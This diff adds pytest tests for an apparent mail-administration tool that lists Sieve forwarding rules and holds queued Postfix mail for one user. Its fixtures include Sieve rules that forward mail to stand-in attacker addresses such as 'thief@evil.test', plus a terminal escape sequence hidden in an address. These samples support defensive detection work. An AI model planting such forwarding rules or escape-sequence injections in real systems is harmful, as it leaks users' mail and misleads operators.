@@ -1,0 +1,80 @@
+"""What a user without a login leaves behind: the redirects and the queued mail that are found."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from types import SimpleNamespace
+from typing import Any
+
+import pytest
+
+from mailops.remote import sessions, shell
+
+SCRIPT = r"""
+require ["copy", "enotify"]; # redirect "comment@elsewhere.test";
+/* redirect "another@elsewhere.test"; */
+if header :contains "subject" "redirect \"quoted@elsewhere.test\"" {
+  redirect :copy "thief@evil.test";
+  REDIRECT "second@evil.test"; fileinto "redirect";
+}
+notify :importance "1" :message "to you@elsewhere.test" "mailto:phone@evil.test";
+vacation :addresses ["me@example.test"] "away";
+"""
+
+
+def test_redirects_in_a_script_are_found_and_comments_are_not(tmp_path: Path) -> None:
+    (tmp_path / "sieve").mkdir()
+    (tmp_path / "sieve" / "rules.sieve").write_text(SCRIPT)
+    (tmp_path / "sieve" / "old.sieve").write_text('redirect "old@evil.test";')
+    (tmp_path / ".dovecot.sieve").symlink_to("sieve/rules.sieve")
+    old, *rules = sessions.redirects(str(tmp_path))
+    assert old.endswith("old.sieve (not in use) sends mail on to old@evil.test")
+    assert all(f"{tmp_path}/sieve/rules.sieve (in use)" in line for line in rules)
+    assert [line.split()[-1] for line in rules] == ["thief@evil.test", "second@evil.test", "mailto:phone@evil.test"]
+
+
+def test_a_script_moves_nothing_on_the_screen(tmp_path: Path) -> None:
+    (tmp_path / ".dovecot.sieve").write_text('redirect "\x1b[2Jthief@evil.test";')
+    (line,) = sessions.redirects(str(tmp_path))
+    assert line.isprintable()
+
+
+def test_no_scripts_no_lines(tmp_path: Path) -> None:
+    assert sessions.redirects(str(tmp_path / "nobody")) == []
+
+
+QUEUE = """\
+{"queue_name": "deferred", "queue_id": "AAA", "sender": "ann@example.test"}
+{"queue_name": "active", "queue_id": "BBB", "sender": "alias@example.test"}
+{"queue_name": "deferred", "queue_id": "CCC", "sender": "other@example.test"}
+{"queue_name": "hold", "queue_id": "DDD", "sender": "ann@example.test"}
+"""
+ENVELOPES = """\
+*** ENVELOPE RECORDS deferred/A/AAA ***
+sender: ann@example.test
+recipient: x@elsewhere.test
+*** HEADER EXTRACTED deferred/A/AAA ***
+*** MESSAGE FILE END deferred/A/AAA ***
+*** ENVELOPE RECORDS active/BBB ***
+named_attribute: sasl_username=Ann@Example.test
+sender: alias@example.test
+*** ENVELOPE RECORDS deferred/C/CCC ***
+named_attribute: sasl_username=other@example.test
+sender: other@example.test
+recipient: ann@example.test
+"""
+
+
+def test_queued_mail_by_login_or_sender_is_held_and_no_other(monkeypatch: pytest.MonkeyPatch) -> None:
+    seen: list[tuple[tuple[str, ...], str]] = []
+
+    def run(*command: str, stdin: str = "", **_: Any) -> SimpleNamespace:
+        seen.append((command, stdin))
+        return SimpleNamespace(stdout={"postqueue": QUEUE, "postcat": ENVELOPES}.get(command[0], ""))
+
+    monkeypatch.setattr(shell, "run", run)
+    (line,) = sessions._hold_mail("ann@example.test")
+    assert "2 messages" in line
+    assert "postsuper -H AAA BBB" in line
+    assert seen[-2][0] == ("postcat", "-e", "-q", "AAA", "BBB", "CCC")
+    assert seen[-1] == (("postsuper", "-h", "-"), "AAA\nBBB\n")
